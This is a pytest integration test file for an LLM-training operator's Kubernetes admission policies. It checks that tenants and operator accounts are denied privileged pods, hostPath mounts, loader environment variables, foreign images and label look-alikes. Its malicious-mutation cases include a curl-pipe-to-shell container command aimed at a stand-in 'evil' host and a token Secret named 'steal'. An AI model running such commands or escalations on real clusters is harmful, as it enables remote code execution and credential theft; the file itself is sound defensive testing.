"""The chart's ValidatingAdmissionPolicies (issue 18, item 6) in the real kube-apiserver's own
admission: the chart is installed with helm, and requests are made as a tenant (impersonated
users bound to llmtrain-edit or to the built-in edit role), as the operator's ServiceAccount and
as the training-operator's, and must be denied or allowed by the API server itself.

Before these policies existed, every "denied" case below was admitted."""

from __future__ import annotations

import copy
import json
import os
import time
import uuid

import pytest
import yaml

from llmtrain.backends import BACKENDS
from llmtrain.backends.jobset import JOBSET_NAME_LABEL
from llmtrain.render import render_rendezvous_secret
from llmtrain.rendezvous_auth import CertificateAuthority
from llmtrain.validation import parse_spec

pytestmark = [pytest.mark.infra]

RELEASE = "llmtrain"
# the backends this module's release enables (the job backend's policies: test_admission_policies_job_cluster.py)
ENABLED = ("jobset", "pytorchjob")
TRAINING_OPERATOR = "system:serviceaccount:kubeflow:training-operator"  # the chart's defaults
JOB_CONTROLLER = "system:serviceaccount:kube-system:job-controller"  # the dev cluster's too
JOBSET_CONTROLLER = "system:serviceaccount:jobset-system:jobset-controller"  # JobSet's chart, release jobset
# who creates an attempt's pods, and the controller owner they name
POD_CREATOR = {"pytorchjob": TRAINING_OPERATOR, "jobset": JOB_CONTROLLER}
MANAGED_BY = "app.kubernetes.io/managed-by"
JOB = {"model": {"preset": "tiny"}, "data": {"seqLen": 64},
       "cluster": {"instanceType": "cpu", "nodes": 1, "processesPerNode": 1, "image": "public.ecr.aws/llmtrain/t:1"},
       "training": {"maxSteps": 2, "globalBatchTokens": 128, "microBatchSize": 2},
       "rendezvous": {"backend": "c10d"}, "suspend": True}


def _new_namespace(cluster, labels: dict | None = None) -> str:
    name = f"vap-{uuid.uuid4().hex[:8]}"
    cluster.kubectl("create", "namespace", name)
    if labels:
        cluster.kubectl("label", "namespace", name, *[f"{k}={v}" for k, v in labels.items()], "--overwrite")
    deadline = time.monotonic() + 60  # pods need the namespace's default ServiceAccount
    while cluster.kubectl("get", "serviceaccount", "default", "-n", name, check=False).returncode != 0:
        assert time.monotonic() < deadline, "no default ServiceAccount"
        time.sleep(0.2)
    return name


@pytest.fixture(scope="module")
def setup(helm, dev_cluster):
    """The release (bundled etcd on, so the operator may create Secrets), a tenant namespace with
    a Secret, a ServiceAccount and a claim, alice (llmtrain-edit only) and bob (edit)."""
    c = dev_cluster
    release_ns = f"llmtrain-system-vap-{os.getpid()}"
    c.kubectl("create", "namespace", release_ns)
    ns = _new_namespace(c)
    made = [release_ns, ns]
    try:
        helm.run("install", RELEASE, helm.operator_chart, "--namespace", release_ns, "--set", "etcd.enabled=true",
                 "--set", f"backends.enabled={{{','.join(ENABLED)}}}", kubeconfig=c.kubeconfig)
        docs = [
            {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "hf", "namespace": ns},
             "stringData": {"token": "x"}},
            {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "trainer", "namespace": ns}},
            {"apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": "data", "namespace": ns},
             "spec": {"accessModes": ["ReadWriteMany"], "resources": {"requests": {"storage": "1Gi"}}}},
            _binding(ns, "alice", "llmtrain-edit"), _binding(ns, "bob", "edit"), _binding(ns, "bob", "llmtrain-edit"),
        ]
        c.kubectl("apply", "-f", "-", input=yaml.safe_dump_all(docs))
        # Readiness of the policies: the API server picks them up asynchronously.
        deadline = time.monotonic() + 60
        while _create(c, _job("probe", model={"preset": "tiny", "hfTokenSecretRef": {"name": "hf", "key": "token"}}),
                      ns, as_user="alice").returncode == 0:
            c.kubectl("delete", "llmtj", "probe", "-n", ns, check=False)
            assert time.monotonic() < deadline, "the admission policies never took effect"
            time.sleep(0.5)
        sa = json.loads(c.kubectl("get", "deployment", "-n", release_ns, "-o", "json").stdout)["items"][0]
        operator = f"system:serviceaccount:{release_ns}:{sa['spec']['template']['spec']['serviceAccountName']}"
        yield {"ns": ns, "release_ns": release_ns, "operator": operator, "made": made}
    finally:
        helm.run("uninstall", RELEASE, "--namespace", release_ns, kubeconfig=c.kubeconfig, check=False)
        for n in made:
            c.kubectl("delete", "namespace", n, "--wait=false", check=False)


def _binding(ns: str, user: str, role: str) -> dict:
    return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
            "metadata": {"name": f"{user}-{role}", "namespace": ns},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
            "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}]}


def _job(name: str, **over) -> dict:
    spec = copy.deepcopy(JOB)
    for k, v in over.items():
        spec[k] = {**spec.get(k, {}), **v}
    return {"apiVersion": "llmtrain.dev/v1alpha1", "kind": "LLMTrainingJob", "metadata": {"name": name}, "spec": spec}


def _create(cluster, doc: dict, ns: str, as_user: str | None = None):
    args = ["create", "-n", ns, "-f", "-"] + ([f"--as={as_user}"] if as_user else [])
    return cluster.kubectl(*args, input=json.dumps(doc), check=False)


def _denied(r, *words) -> bool:
    text = r.stderr
    return r.returncode != 0 and "denied request" in text and all(w in text for w in words)


def test_a_job_may_name_only_what_its_author_may_use(setup, dev_cluster):
    c, ns = dev_cluster, setup["ns"]
    hf = {"preset": "tiny", "hfTokenSecretRef": {"name": "hf", "key": "token"}}
    r = _create(c, _job("a1", model=hf), ns, "alice")
    assert _denied(r, "spec.model.hfTokenSecretRef", "alice may not get Secret hf"), r.stderr
    r = _create(c, _job("a2", cluster={"serviceAccountName": "trainer"}), ns, "alice")
    assert _denied(r, "spec.cluster.serviceAccountName", "impersonate"), r.stderr
    r = _create(c, _job("a3", cluster={"volumes": [{"name": "d", "claimName": "data", "mountPath": "/data"}]}), ns, "alice")
    assert _denied(r, "spec.cluster.volumes[].claimName", "data"), r.stderr
    # what alice may do, she still may
    assert _create(c, _job("a4"), ns, "alice").returncode == 0
    # bob holds edit: get on Secrets and PVCs, impersonate on ServiceAccounts
    assert _create(c, _job("b1", model=hf, cluster={"serviceAccountName": "trainer", "volumes": [
        {"name": "d", "claimName": "data", "mountPath": "/data"}]}), ns, "bob").returncode == 0
    # an unchanged reference is not checked again on update (alice edits bob's job's mutable
    # part; the references themselves are immutable in the CRD)
    r = c.kubectl("patch", "llmtj", "b1", "-n", ns, "--type=merge", "-p", '{"spec":{"resilience":{"maxRestarts":3}}}',
                  "--as=alice", check=False)
    assert r.returncode == 0, r.stderr


@pytest.mark.parametrize("var", ["LD_PRELOAD", "LD_LIBRARY_PATH", "PYTHONPATH", "PYTHONSTARTUP", "NCCL_NET_PLUGIN",
                                 "NVIDIA_VISIBLE_DEVICES", "BASH_ENV"])
def test_loader_variables_are_refused_for_everyone(setup, dev_cluster, var):
    r = _create(dev_cluster, _job(f"env-{uuid.uuid4().hex[:6]}", cluster={"env": {var: "/x", "NCCL_DEBUG": "INFO"}}),
                setup["ns"], "bob")
    assert _denied(r, "spec.cluster.env", var), r.stderr


def test_ordinary_env_is_fine(setup, dev_cluster):
    r = _create(dev_cluster, _job("env-ok", cluster={"env": {"NCCL_DEBUG": "INFO", "PYTHONFAULTHANDLER": "1"}}),
                setup["ns"], "bob")
    assert r.returncode == 0, r.stderr


def _owner(c, ns: str, name: str) -> str:
    if c.kubectl("get", "llmtj", name, "-n", ns, check=False).returncode != 0:
        _create(c, _job(name), ns, "bob")
    return json.loads(c.kubectl("get", "llmtj", name, "-n", ns, "-o", "json").stdout)["metadata"]["uid"]


def _rendered(c, ns: str, spec_over: dict | None = None, backend: str = "pytorchjob", **kw) -> dict:
    uid = _owner(c, ns, "owner")
    raw = copy.deepcopy(JOB)
    raw.pop("suspend")
    for k, v in (spec_over or {}).items():
        raw[k] = {**raw.get(k, {}), **v}
    return BACKENDS[backend].render(parse_spec(raw), "owner", ns, kw.pop("attempt", 1), uid, "etcd.x.svc:2379", **kw)


def _pod(child: dict) -> dict:
    if child["kind"] == "JobSet":
        return child["spec"]["replicatedJobs"][0]["template"]["spec"]["template"]["spec"]
    return child["spec"]["pytorchReplicaSpecs"]["Worker"]["template"]["spec"]


def _mutate(child: dict, fn) -> dict:
    child = copy.deepcopy(child)
    fn(_pod(child), child)
    return child


EFA = {"cluster": {"instanceType": "p5.48xlarge", "nodes": 2, "image": "public.ecr.aws/llmtrain/t:1"},
       "model": {"preset": "tiny", "hfTokenSecretRef": {"name": "hf", "key": "token"}},
       "rendezvous": {"backend": "etcd-v2"}}


@pytest.mark.parametrize("backend", ENABLED)
def test_the_operator_may_create_what_it_renders(setup, dev_cluster, backend):
    c, ns, op = dev_cluster, setup["ns"], setup["operator"]
    first = {"pytorchjob": 1, "jobset": 11}[backend]  # attempts of their own: one owner, two kinds
    for i, (over, kw) in enumerate([({}, {}), (EFA, {"rendezvous_credentials": True})]):
        r = _create(c, _rendered(c, ns, over, backend, attempt=first + i, **kw), ns, op)
        assert r.returncode == 0, r.stderr
    creds = CertificateAuthority.generate().issue("llmtrain-ns-x")
    uid = _owner(c, ns, "owner")
    r = _create(c, render_rendezvous_secret("owner", ns, first + 1, uid, creds), ns, op)
    assert r.returncode == 0, r.stderr


BAD = {
    "a hostPath volume": lambda p, _: p["volumes"].append({"name": "host", "hostPath": {"path": "/"}}),
    "a privileged container": lambda p, _: p["containers"][0]["securityContext"].update(privileged=True),
    "SYS_ADMIN": lambda p, _: p["containers"][0]["securityContext"]["capabilities"].update(add=["SYS_ADMIN"]),
    "another command": lambda p, _: p["containers"][0].update(command=["sh", "-c", "curl evil | sh"]),
    "a second container": lambda p, _: p["containers"].append({"name": "side", "image": "busybox"}),
    "hostNetwork": lambda p, _: p.update(hostNetwork=True),
    "a ServiceAccount token": lambda p, _: p.update(automountServiceAccountToken=True),
    "another Secret in env": lambda p, _: p["containers"][0]["env"].append(
        {"name": "AWS_SECRET_ACCESS_KEY", "valueFrom": {"secretKeyRef": {"name": "aws", "key": "k"}}}),
    "another Secret as a volume": lambda p, _: p["volumes"].append({"name": "s", "secret": {"secretName": "aws"}}),
    "no owner": lambda _, ptj: ptj["metadata"].pop("ownerReferences"),
    "an image elsewhere": lambda p, _: p["containers"][0].update(image="evil.example/x:1"),
}


# What only a JobSet could do besides its pods: restart itself, run more replicated Jobs or Jobs,
# retry a failed pod, hand itself to another controller, or have the JobSet controller make PVCs.
BAD_JOBSET = {
    "JobSet restarts": lambda _, js: js["spec"]["failurePolicy"].update(maxRestarts=3),
    "Job retries": lambda _, js: js["spec"]["replicatedJobs"][0]["template"]["spec"].update(backoffLimit=6),
    "a second replicated job": lambda _, js: js["spec"]["replicatedJobs"].append(
        {**copy.deepcopy(js["spec"]["replicatedJobs"][0]), "name": "extra"}),
    "two Jobs": lambda _, js: js["spec"]["replicatedJobs"][0].update(replicas=2),
    "another controller": lambda _, js: js["spec"].update(managedBy="example.com/other"),
    "PVC templates": lambda _, js: js["spec"].update(
        volumeClaimPolicies=[{"templates": [{"metadata": {"name": "x"}, "spec": {
            "accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}}]}]),
}
CASES = [("pytorchjob", w) for w in sorted(BAD)] + [("jobset", w) for w in sorted({**BAD, **BAD_JOBSET})]


@pytest.mark.parametrize("backend,what", CASES)
def test_the_operators_token_cannot_create_anything_else(setup, dev_cluster, backend, what):
    c, ns = dev_cluster, setup["ns"]
    child = _mutate(_rendered(c, ns, backend=backend, attempt=7), {**BAD, **BAD_JOBSET}[what])
    child["metadata"]["name"] = f"owner-a{uuid.uuid4().int % 10**6}"
    r = _create(c, child, ns, setup["operator"])
    if what == "an image elsewhere":  # only with admission.allowedImageRegistries (unset here)
        assert r.returncode == 0, r.stderr
        return
    assert _denied(r), f"{what}: {r.stderr or 'admitted'}"


def test_the_operators_token_creates_no_other_secrets(setup, dev_cluster):
    c, ns = dev_cluster, setup["ns"]
    token = {"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
             "metadata": {"name": "steal", "namespace": ns, "annotations": {"kubernetes.io/service-account.name": "trainer"}}}
    assert _denied(_create(c, token, ns, setup["operator"]), "belong to an LLMTrainingJob")


def test_only_the_operator_creates_llmtrain_pytorchjobs(setup, dev_cluster):
    """Not even a cluster admin by hand: such PyTorchJobs get the EFA Pod Security exception."""
    c, ns = dev_cluster, setup["ns"]
    ptj = _rendered(c, ns, attempt=9)
    assert _denied(_create(c, ptj, ns), "only the llmtrain operator"), "admitted"


def test_the_jobset_policy_reads_what_jobsets_webhook_leaves_of_maxrestarts_0(setup, dev_cluster):
    """JobSet's mutating webhook marshals `failurePolicy.maxRestarts: 0` away (omitempty) before
    any validating policy runs: the policy takes a missing maxRestarts as the 0 it is."""
    c, ns = dev_cluster, setup["ns"]
    js = _rendered(c, ns, backend="jobset", attempt=21)
    del js["spec"]["failurePolicy"]["maxRestarts"]
    r = _create(c, js, ns, setup["operator"])
    assert r.returncode == 0, r.stderr


def test_a_queue_controller_may_admit_an_operator_pytorchjob_but_not_change_its_pods(setup, dev_cluster):
    """Kueue admits a suspended PyTorchJob by updating it (suspend, the flavor's nodeSelector and
    tolerations). The policy once refused every update by anyone but the operator, so a job queued
    in Kueue under the chart was admitted by Kueue and never unsuspended (found by make demo)."""
    c, ns = dev_cluster, setup["ns"]
    kueue = "system:serviceaccount:kueue-system:kueue-controller-manager"
    role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": "vap-kueue-ptj"},
            "rules": [{"apiGroups": ["kubeflow.org"], "resources": ["pytorchjobs"],
                       "verbs": ["get", "list", "watch", "update", "patch"]}]}
    c.kubectl("apply", "-f", "-", input=yaml.safe_dump_all([role, _binding(ns, kueue, "vap-kueue-ptj")]))
    ptj = _rendered(c, ns, attempt=7)
    ptj["spec"].setdefault("runPolicy", {})["suspend"] = True
    r = _create(c, ptj, ns, setup["operator"])
    assert r.returncode == 0, r.stderr
    name = ptj["metadata"]["name"]

    def patch(body: dict, as_user: str):
        return c.kubectl("patch", "pytorchjob", name, "-n", ns, "--type=merge", f"--as={as_user}",
                         "-p", json.dumps(body), check=False)

    worker = {"template": {"spec": {"nodeSelector": {"node.kubernetes.io/instance-type": "cpu", "flavor": "x"},
                                    "tolerations": [{"key": "kueue", "operator": "Exists"}]}}}
    r = patch({"spec": {"runPolicy": {"suspend": False}, "pytorchReplicaSpecs": {"Worker": worker}}}, kueue)
    assert r.returncode == 0, r.stderr
    # the same writer may not change what the pods run or may do
    image = {"template": {"spec": {"containers": [{"name": "pytorch", "image": "evil.example/x:1"}]}}}
    assert _denied(patch({"spec": {"pytorchReplicaSpecs": {"Worker": image}}}, kueue), "only the llmtrain operator")
    host = {"template": {"spec": {"hostNetwork": True}}}
    assert _denied(patch({"spec": {"pytorchReplicaSpecs": {"Worker": host}}}, kueue), "only the llmtrain operator")


def _template(child: dict) -> dict:
    """The pod template of a rendered child, as its controller copies it onto the pods."""
    if child["kind"] == "JobSet":
        return child["spec"]["replicatedJobs"][0]["template"]["spec"]["template"]
    return child["spec"]["pytorchReplicaSpecs"]["Worker"]["template"]


def _efa_pod(c, ns: str, over=None, backend: str = "pytorchjob") -> dict:
    """An attempt's EFA worker pod as its controller creates it: the rendered template, the
    controller's labels (JobSet's), its controller owner (a PyTorchJob; a JobSet's Job)."""
    child = _rendered(c, ns, EFA, backend, rendezvous_credentials=True)
    tpl = copy.deepcopy(_template(child))
    owner = {"apiVersion": "kubeflow.org/v1", "kind": "PyTorchJob", "name": "owner-a1"}
    if backend == "jobset":
        tpl["metadata"]["labels"][JOBSET_NAME_LABEL] = "owner-a1"
        owner = {"apiVersion": "batch/v1", "kind": "Job", "name": "owner-a1-worker-0"}
    meta = {**tpl["metadata"], "name": f"owner-a1-worker-{uuid.uuid4().hex[:5]}",
            "ownerReferences": [{**owner, "uid": str(uuid.uuid4()), "controller": True}]}
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": meta, "spec": tpl["spec"]}
    if over:
        over(pod["spec"])
    return pod


@pytest.fixture(scope="module")
def efa_namespaces(setup, dev_cluster):
    """A baseline-efa namespace and a baseline one; the pods' creators and bob may write there."""
    c = dev_cluster
    efa_ns = _new_namespace(c, {"pod-security.kubernetes.io/enforce": "privileged",
                                "llmtrain.dev/pod-security": "baseline-efa"})
    baseline_ns = _new_namespace(c, {"pod-security.kubernetes.io/enforce": "baseline"})
    setup["made"] += [efa_ns, baseline_ns]
    for n in (efa_ns, baseline_ns):
        c.kubectl("apply", "-f", "-", input=yaml.safe_dump_all([
            _binding(n, user, "edit") for user in (TRAINING_OPERATOR, JOB_CONTROLLER, JOBSET_CONTROLLER, "bob")
        ] + [_binding(n, "bob", "llmtrain-edit")]))
    return efa_ns, baseline_ns


@pytest.mark.parametrize("backend", ENABLED)
def test_baseline_efa_namespaces_admit_exactly_the_efa_difference(setup, dev_cluster, efa_namespaces, backend):
    c, (efa_ns, baseline_ns) = dev_cluster, efa_namespaces
    creator, other = POD_CREATOR[backend], POD_CREATOR[{"pytorchjob": "jobset", "jobset": "pytorchjob"}[backend]]
    pod = _efa_pod(c, efa_ns, backend=backend)
    caps = pod["spec"]["containers"][0]["securityContext"]["capabilities"]["add"]
    assert caps == ["IPC_LOCK"]
    # The attempt's EFA worker from its controller: admitted in the baseline-efa namespace...
    r = _create(c, pod, efa_ns, creator)
    assert r.returncode == 0, r.stderr
    # ...refused by Pod Security itself in a baseline one (why the policy exists)
    r = _create(c, _efa_pod(c, efa_ns, backend=backend), baseline_ns, creator)
    assert r.returncode != 0 and "violates PodSecurity" in r.stderr, r.stderr
    # Anything beyond the difference is refused
    for what, over in {
        "SYS_ADMIN": lambda s: s["containers"][0]["securityContext"]["capabilities"].update(add=["IPC_LOCK", "SYS_ADMIN"]),
        "privileged": lambda s: s["containers"][0]["securityContext"].update(privileged=True),
        "hostPath": lambda s: s["volumes"].append({"name": "h", "hostPath": {"path": "/"}}),
        "hostNetwork": lambda s: s.update(hostNetwork=True),
        "hostPort": lambda s: s["containers"][0]["ports"][0].update(hostPort=9410),
    }.items():
        r = _create(c, _efa_pod(c, efa_ns, over, backend), efa_ns, creator)
        assert _denied(r, "baseline"), f"{what}: {r.stderr or 'admitted'}"
    # IPC_LOCK is for llmtrain's EFA workers from their controller only: not for a tenant's pod,
    # nor one the other backend's controller creates (each names its own kind of owner)
    for user in ("bob", other):
        r = _create(c, _efa_pod(c, efa_ns, backend=backend), efa_ns, user)
        assert _denied(r, "baseline"), f"{user}: {r.stderr or 'admitted'}"
    look_alikes = {"not llmtrain's": lambda p: p["metadata"]["labels"].pop(MANAGED_BY),
                   "no controller owner": lambda p: p["metadata"]["ownerReferences"][0].pop("controller")}
    if backend == "jobset":  # a Job's pod that no JobSet's Job made
        look_alikes["no JobSet"] = lambda p: p["metadata"]["labels"].pop(JOBSET_NAME_LABEL)
    for what, change in look_alikes.items():
        fake = _efa_pod(c, efa_ns, backend=backend)
        change(fake)
        r = _create(c, fake, efa_ns, creator)
        assert _denied(r, "baseline"), f"{what}: {r.stderr or 'admitted'}"

    def no_efa(s):
        for part in ("requests", "limits"):
            s["containers"][0]["resources"][part].pop("vpc.amazonaws.com/efa")
    r = _create(c, _efa_pod(c, efa_ns, no_efa, backend), efa_ns, creator)
    assert _denied(r, "baseline"), r.stderr or "admitted"
    # and a tenant's ordinary baseline pod is fine there
    plain = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": f"plain-{backend}"},
             "spec": {"containers": [{"name": "c", "image": "busybox"}]}}
    assert _create(c, plain, efa_ns, "bob").returncode == 0


# --- nobody makes a look-alike of llmtrain's children to borrow the exception ----------------------


def _unlabelled(child: dict) -> dict:
    child = copy.deepcopy(child)
    _template(child)["metadata"]["labels"].pop(MANAGED_BY)
    return child


@pytest.mark.parametrize("backend", ENABLED)
def test_nobody_but_the_operator_makes_a_child_whose_pods_get_the_exception(setup, dev_cluster, backend):
    """Not even a cluster admin by hand, neither by creating one nor by adding the label to a child
    that had none (its controller would then make labelled pods from it)."""
    c, ns = dev_cluster, setup["ns"]
    kind = BACKENDS[backend].child
    child = _rendered(c, ns, EFA, backend, attempt=31, rendezvous_credentials=True)
    assert _denied(_create(c, child, ns), "only the llmtrain operator"), "admitted"
    plain = _unlabelled(child)
    assert _create(c, plain, ns).returncode == 0  # no label: nothing to borrow
    name = plain["metadata"]["name"]
    labelled = json.dumps(_template(child)["metadata"]["labels"])
    path = {"pytorchjob": "/spec/pytorchReplicaSpecs/Worker/template/metadata/labels",
            "jobset": "/spec/replicatedJobs/0/template/spec/template/metadata/labels"}[backend]
    r = c.kubectl("patch", kind.plural + "." + kind.group, name, "-n", ns, "--type=json",
                  "-p", f'[{{"op": "replace", "path": "{path}", "value": {labelled}}}]', check=False)
    assert _denied(r, "nobody adds that label"), r.stderr or "admitted"


def test_only_the_jobset_controller_makes_jobs_whose_pods_get_the_exception(setup, dev_cluster, efa_namespaces):
    """The real Job controller of the dev cluster makes the pods: from the JobSet controller's Job of
    an operator's JobSet, an EFA worker is admitted; a tenant's Job like it is refused, and so is
    the label added to a tenant's suspended Job, and the pods of a tenant's unlabelled EFA Job."""
    c, (ns, _) = dev_cluster, efa_namespaces
    js = _rendered(c, ns, EFA, "jobset", attempt=41, rendezvous_credentials=True)
    assert _create(c, js, ns, setup["operator"]).returncode == 0
    js = json.loads(c.kubectl("get", "jobsets.jobset.x-k8s.io", js["metadata"]["name"], "-n", ns, "-o", "json").stdout)
    rjob = js["spec"]["replicatedJobs"][0]["template"]

    def job(name: str, owner: bool = True) -> dict:
        spec = copy.deepcopy(rjob["spec"])
        spec["template"]["metadata"]["labels"][JOBSET_NAME_LABEL] = js["metadata"]["name"]
        meta = {"name": name, "labels": dict(rjob["metadata"].get("labels") or {})}
        if owner:  # as the JobSet controller sets it
            meta["ownerReferences"] = [{"apiVersion": js["apiVersion"], "kind": "JobSet", "name": js["metadata"]["name"],
                                        "uid": js["metadata"]["uid"], "controller": True, "blockOwnerDeletion": True}]
        return {"apiVersion": "batch/v1", "kind": "Job", "metadata": meta, "spec": spec}

    def pods(name: str) -> list:
        out = c.kubectl("get", "pods", "-n", ns, "-l", f"job-name={name}", "-o", "json").stdout
        return json.loads(out)["items"]

    def refusal(name: str) -> str:
        out = c.kubectl("get", "events", "-n", ns, "--field-selector",
                        f"involvedObject.name={name},reason=FailedCreate", "-o", "json").stdout
        return " ".join(e["message"] for e in json.loads(out)["items"])

    good = f"{js['metadata']['name']}-worker-0"
    r = _create(c, job(good), ns, JOBSET_CONTROLLER)
    assert r.returncode == 0, r.stderr
    deadline = time.monotonic() + 60
    while not pods(good):
        assert time.monotonic() < deadline, f"the Job controller made no pod: {refusal(good)}"
        time.sleep(0.5)
    (pod,) = pods(good)[:1]
    assert pod["spec"]["containers"][0]["securityContext"]["capabilities"]["add"] == ["IPC_LOCK"]
    # A tenant's Job like it, and one without an owner even from the JobSet controller's name
    for name, user, owned in (("bob-copy", "bob", True), ("no-owner", JOBSET_CONTROLLER, False)):
        r = _create(c, job(name, owned), ns, user)
        assert _denied(r, "only the JobSet controller", "jobsetControllerUsers"), f"{name}: {r.stderr or 'admitted'}"
    # Outside baseline-efa namespaces the label earns nothing, so Jobs there are none of the policy's
    # (a JobSet controller under another name breaks no other namespace)
    away = job("bob-away", owner=False)
    away["spec"]["suspend"] = True
    assert _create(c, away, setup["ns"], "bob").returncode == 0
    # The label added to a tenant's suspended Job (whose pod template labels Kubernetes lets change)
    quiet = job("bob-later", owner=False)
    quiet["spec"]["suspend"] = True
    quiet["spec"]["template"]["metadata"]["labels"].pop(MANAGED_BY)
    assert _create(c, quiet, ns, "bob").returncode == 0
    r = c.kubectl("patch", "job", "bob-later", "-n", ns, "--type=merge", "--as=bob", "-p",
                  json.dumps({"spec": {"template": {"metadata": {"labels": {MANAGED_BY: "llmtrain-operator"}}}}}),
                  check=False)
    assert _denied(r, "nobody adds that label"), r.stderr or "admitted"
    # A tenant's unlabelled EFA Job is admitted, but the Job controller's pods get no IPC_LOCK
    plain = job("bob-plain", owner=False)
    plain["spec"]["template"]["metadata"]["labels"].pop(MANAGED_BY)
    assert _create(c, plain, ns, "bob").returncode == 0
    deadline = time.monotonic() + 60
    while "baseline" not in refusal("bob-plain"):
        assert time.monotonic() < deadline, "no refused pod creation for bob-plain"
        time.sleep(0.5)
    assert not pods("bob-plain")
